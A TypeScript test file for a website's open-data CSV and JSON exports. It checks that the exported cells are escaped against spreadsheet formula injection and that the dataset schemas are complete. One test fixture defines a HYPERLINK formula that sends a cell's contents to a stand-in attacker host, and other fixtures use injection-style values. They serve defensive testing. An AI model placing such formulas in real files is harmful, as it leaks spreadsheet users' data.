import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildCatalogue } from '../../src/lib/catalogue.ts';
import { z } from 'zod';
import { COLLECTIONS, type CollectionSpec } from '../../src/lib/content/collections.ts';
import {
  DATASETS,
  cityRecords,
  citiesCsv,
  datasetJsonSchema,
  datasetsOf,
  entriesCsv,
  entryRecords,
  indexResultRecords,
  indexResultsCsv,
  practiceRecords,
  practicesCsv,
  recordFields,
} from '../../src/lib/open-data.ts';
import type { Activity } from '../../src/lib/schemas/activity.ts';
import { localized } from '../../src/lib/schemas/fields.ts';
import type { IndexResult } from '../../src/lib/schemas/index-result.ts';
import { catalogueInput, practice } from '../fixtures/catalogue.ts';

const url = (lang: string, id: string) => `https://example.org/${lang}/${id}/`;
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Report")';

/** A catalogue whose texts start the way spreadsheets misread: a formula, a Markdown list, "+", "@", a tab. */
function hostileCatalogue() {
  return buildCatalogue({
    ...catalogueInput,
    cities: catalogueInput.cities.map((city) => (city.id === 'lisbon' ? { ...city, data: { ...city.data, lon: -9.14, name: '@lisbon', localName: '+351 Lisboa' } } : city)),
    practices: [
      {
        id: 'hostile',
        lang: 'en',
        data: practice({ title: FORMULA, cities: ['lisbon'], themes: ['mediation'], process: '- item one\n- item two', results: '\tTabbed', stimulus: '\rReturn', transferability: '-5 people' }),
      },
      { id: 'hostile', lang: 'fr', data: practice({ title: '+ de rencontres', cities: ['lisbon'], themes: ['mediation'], purpose: 'Objectif = rencontre' }) },
    ],
  });
}

/** The CSV read back as a spreadsheet would: one object per row, keyed by the header. */
const readBack = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<string, string>[];

describe('open data CSV', () => {
  const catalogue = hostileCatalogue();
  const records = practiceRecords(catalogue, url);

  it('puts an apostrophe before text cells starting with =, +, -, @, tab or carriage return (OWASP CSV injection)', () => {
    const [row] = readBack(practicesCsv(records));
    expect(row).toMatchObject({
      title_en: `'${FORMULA}`,
      process_en: "'- item one\n- item two",
      results_en: "'\tTabbed",
      stimulus_en: "'\rReturn",
      transferability_en: "'-5 people",
      title_fr: "'+ de rencontres",
      purpose_fr: 'Objectif = rencontre',
      id: 'hostile',
    });
  });

  it('leaves numbers as numbers (a negative longitude is not a formula) and neutralises city names', () => {
    const lisbon = readBack(citiesCsv(cityRecords(catalogue, url))).find((row) => row.id === 'lisbon');
    expect(lisbon).toMatchObject({ lon: '-9.14', name: "'@lisbon", localName: "'+351 Lisboa" });
  });

  it('neutralises Index result summaries too', () => {
    const result: IndexResult = {
      city: 'oslo',
      edition: 2019,
      date: '2019-05-01',
      version: '2019',
      sampleSize: 100,
      overall: 70,
      scores: { mediation: 70 },
      summary: { en: '=1+1', fr: '@SUM(A1:A2)' },
      recommendations: [],
    };
    const [row] = readBack(indexResultsCsv(indexResultRecords([{ id: 'oslo-2019', data: result }], url), ['mediation']));
    expect(row).toMatchObject({ summary_en: "'=1+1", summary_fr: "'@SUM(A1:A2)", overall: '70', score_mediation: '70' });
  });

  it('keeps the exact text in the JSON records', () => {
    const [record] = records;
    expect(record!.translations.en).toMatchObject({ title: FORMULA, process: '- item one\n- item two', results: '\tTabbed' });
    expect(record!.translations.fr).toMatchObject({ title: '+ de rencontres' });
    expect(JSON.parse(JSON.stringify(record)).translations.en.title).toBe(FORMULA);
  });
});

describe('practice records', () => {
  it('carry the fields every language shares once, the coded facts among them, and only texts per language', () => {
    const catalogue = buildCatalogue({
      ...catalogueInput,
      practices: [
        { id: 'coded', lang: 'en', data: practice({ title: 'Coded', cities: ['lisbon'], themes: ['mediation'], evidence: { level: 'monitoring' }, cost: '10k-50k', openToStudyVisits: true }) },
        { id: 'coded', lang: 'fr', data: practice({ title: 'Codée', cities: ['lisbon'], themes: ['mediation'], evidence: { level: 'monitoring' }, cost: '10k-50k', openToStudyVisits: true }) },
      ],
    });
    const [record] = practiceRecords(catalogue, url);
    expect(record).toMatchObject({ id: 'coded', cities: ['lisbon'], evidence: { level: 'monitoring' }, cost: '10k-50k', openToStudyVisits: true });
    for (const lang of ['en', 'fr'] as const) {
      expect(Object.keys(record!.translations[lang]!).filter((key) => ['evidence', 'cost', 'openToStudyVisits', 'cities', 'themes'].includes(key)), lang).toEqual([]);
    }
    expect(record!.translations.fr!.title).toBe('Codée');
  });
});

describe('open data field meanings (the codebook on the data page and in the JSON Schemas)', () => {
  interface Node { description?: string; properties?: Record<string, Node>; items?: Node; anyOf?: Node[] }
  /** Every property of every object in a dataset's JSON Schema, at any depth: "records[].url.en". */
  function properties(node: Node, path: string): { path: string; description: string | undefined }[] {
    const own = Object.entries(node.properties ?? {}).flatMap(([name, child]) => [
      { path: `${path}${name}`, description: child.description },
      ...properties(child, `${path}${name}.`),
    ]);
    const items = node.items ? properties(node.items, path.replace(/\.$/, '[].')) : [];
    const options = (node.anyOf ?? []).flatMap((option) => properties(option, path));
    return [...own, ...items, ...options];
  }
  const names = DATASETS.map((dataset) => dataset.name);
  const everyField = names.flatMap((name) => properties(datasetJsonSchema(name, name) as Node, `${name}: `));

  it('gives every field of every dataset, at every depth, a meaning', () => {
    expect(everyField.length).toBeGreaterThan(60);
    expect(everyField.filter((field) => !field.description?.trim()).map((field) => field.path)).toEqual([]);
    for (const name of names) expect(recordFields(name).filter((field) => !field.description).map((field) => field.name)).toEqual([]);
  });

  it('never shows the public a path inside the repository', () => {
    const repositoryPath = /\b(src|public|test|scripts|node_modules)\/|\.(md|ts|yaml)\b/;
    expect(everyField.filter((field) => repositoryPath.test(field.description ?? '')).map((field) => `${field.path}: ${field.description}`)).toEqual([]);
  });
});

describe('the datasets come from the collection registry', () => {
  it('publish every collection whose spec has openData, in the registry\'s order, activities and organisations among them', () => {
    const published = Object.entries(COLLECTIONS).flatMap(([name, spec]) => (spec.openData === false ? [] : [name]));
    expect(DATASETS.map((dataset) => dataset.name)).toEqual(published);
    expect(published).toEqual(['cities', 'practices', 'organisations', 'methods', 'resources', 'index-results', 'activities']);
  });

  it('keep the records of the datasets published before, field for field', () => {
    const fields = (name: string) => recordFields(name).map((field) => field.name);
    expect(fields('practices')).toEqual(['id', 'url', 'cities', 'themes', 'targetGroups', 'period', 'adaptedFrom', 'methods', 'contact', 'evidence', 'cost', 'staff', 'reach', 'status', 'partners', 'openToStudyVisits', 'openToMentoring', 'countries', 'translations']);
    expect(fields('cities')).toEqual(['id', 'url', 'name', 'localName', 'names', 'country', 'lat', 'lon', 'population', 'foreignBornShare', 'joined', 'international', 'networks', 'website', 'profile', 'coordinator', 'openToStudyVisits', 'openToMentoring', 'membership']);
    expect(fields('index-results')).toEqual(['id', 'url', 'city', 'edition', 'date', 'version', 'sampleSize', 'overall', 'scores', 'summary', 'recommendations']);
    expect(fields('methods')).toEqual(['id', 'url', 'themes', 'budget', 'practices', 'translations']);
    expect(fields('resources')).toEqual(['id', 'url', 'link', 'kind', 'title', 'summary', 'year', 'publisher', 'languages', 'file', 'themes', 'methods', 'practices']);
  });

  // A collection that did not exist: one registry entry, nothing else.
  const studyTrips: CollectionSpec = {
    folder: 'study-trips',
    extensions: ['.yaml'],
    perLanguage: false,
    noun: 'study trip',
    body: false,
    schema: z.strictObject({
      title: localized('title of the trip'),
      year: z.number().describe('year of the trip'),
      cities: z.array(z.string()).describe('ids of the cities visited'),
      contact: z.object({ name: z.string().describe('who to ask'), email: z.string().describe('their e-mail') }).describe('who to ask').optional(),
    }),
    schemaFor: () => z.object({}),
    references: [],
    url: (lang, id) => `/${lang}/study-trips/${id}/`,
    openData: { description: 'study trips' },
  };
  const datasets = datasetsOf({ ...COLLECTIONS, 'study-trips': studyTrips });

  it('give a collection added to the registry its dataset, codebook and CSV with no other edit', () => {
    expect(datasets.map((dataset) => dataset.name)).toEqual([...DATASETS.map((dataset) => dataset.name), 'study-trips']);
    expect(recordFields('study-trips', datasets)).toEqual([
      { name: 'id', type: 'string', required: true, description: 'stable id of the study trip: its file name' },
      { name: 'url', type: '{ en, fr, es }', required: true, description: 'address of the entry on the site, per language' },
      { name: 'title', type: '{ en, fr, es }', required: true, description: 'title of the trip' },
      { name: 'year', type: 'number', required: true, description: 'year of the trip' },
      { name: 'cities', type: 'string[]', required: true, description: 'ids of the cities visited' },
      { name: 'contact', type: '{ name, email }', required: false, description: 'who to ask' },
    ]);
    expect(datasetJsonSchema('study-trips', 'https://example.org/data/study-trips.schema.json', datasets)).toMatchObject({ $id: 'https://example.org/data/study-trips.schema.json', title: 'study-trips', description: 'study trips' });
    const records = entryRecords(
      [
        { id: 'oslo-2025', data: { title: { en: '=HYPERLINK("x")', fr: 'Oslo' }, year: 2025, cities: ['oslo', 'bergen'], contact: { name: 'Kari', email: 'kari@oslo.example' } } },
        { id: 'bilbao-2024', data: { title: { en: 'Bilbao' }, year: 2024, cities: [] } },
      ],
      url,
    );
    expect(records[0]).toEqual({ id: 'bilbao-2024', url: { en: 'https://example.org/en/bilbao-2024/', fr: 'https://example.org/fr/bilbao-2024/', es: 'https://example.org/es/bilbao-2024/' }, title: { en: 'Bilbao' }, year: 2024, cities: [] });
    const csv = entriesCsv(records, datasets.at(-1)!.record);
    expect(csv.split('\n')[0]).toBe('\uFEFFid,url_en,url_fr,url_es,title_en,title_fr,title_es,year,cities,contact_name,contact_email');
    expect(readBack(csv)).toEqual([
      { id: 'bilbao-2024', url_en: 'https://example.org/en/bilbao-2024/', url_fr: 'https://example.org/fr/bilbao-2024/', url_es: 'https://example.org/es/bilbao-2024/', title_en: 'Bilbao', title_fr: '', title_es: '', year: '2024', cities: '', contact_name: '', contact_email: '' },
      { id: 'oslo-2025', url_en: 'https://example.org/en/oslo-2025/', url_fr: 'https://example.org/fr/oslo-2025/', url_es: 'https://example.org/es/oslo-2025/', title_en: `'=HYPERLINK("x")`, title_fr: 'Oslo', title_es: '', year: '2025', cities: 'oslo; bergen', contact_name: 'Kari', contact_email: 'kari@oslo.example' },
    ]);
  });

  it('refuse a collection whose entries cannot be published as written, saying what to do', () => {
    expect(() => datasetsOf({ trips: { ...studyTrips, perLanguage: true } })).toThrow(
      'collection "trips" is written one file per language: its open-data records need a shape of their own (a record schema in RECORD_SCHEMAS and writers in src/lib/open-data.ts), or set openData: false in src/lib/content/collections.ts',
    );
    const { url: _url, ...pageless } = studyTrips;
    expect(() => datasetsOf({ trips: pageless })).toThrow('collection "trips" has no pages (no url in src/lib/content/collections.ts), so its open-data records would have no address: give it url, or set openData: false');
    expect(() => recordFields('trips')).toThrow('"trips" is not an open-data dataset: the datasets are cities, practices, organisations, methods, resources, index-results, activities');
  });

  it('write activities with nested fields spelt out and the record\'s links as JSON', () => {
    const activity: Activity = {
      type: 'study-visit',
      title: { en: 'Study visit to Getxo', fr: 'Visite d’étude à Getxo' },
      description: { en: '- Two days' },
      start: '2025-05-14T09:30',
      end: '2025-05-15T16:00',
      timeZone: 'Europe/Madrid',
      hosts: ['getxo'],
      participants: ['oslo', 'patras'],
      themes: ['mediation'],
      organiser: 'City of Getxo',
      registration: { url: 'https://example.org/register', deadline: '2025-04-30' },
      record: { summary: { en: 'Twenty officials came.' }, documents: [{ title: { en: 'Programme' }, url: 'https://example.org/programme.pdf' }] },
    };
    const activities = DATASETS.find((dataset) => dataset.name === 'activities')!;
    const [row] = readBack(entriesCsv(entryRecords([{ id: 'visit-getxo', data: activity }], url), activities.record));
    expect(row).toMatchObject({
      id: 'visit-getxo',
      type: 'study-visit',
      title_en: 'Study visit to Getxo',
      title_fr: 'Visite d’étude à Getxo',
      description_en: "'- Two days",
      start: '2025-05-14T09:30',
      hosts: 'getxo',
      participants: 'oslo; patras',
      registration_url: 'https://example.org/register',
      registration_deadline: '2025-04-30',
      record_summary_en: 'Twenty officials came.',
      record_documents: '[{"title":{"en":"Programme"},"url":"https://example.org/programme.pdf"}]',
      url_en: 'https://example.org/en/visit-getxo/',
    });
  });
});
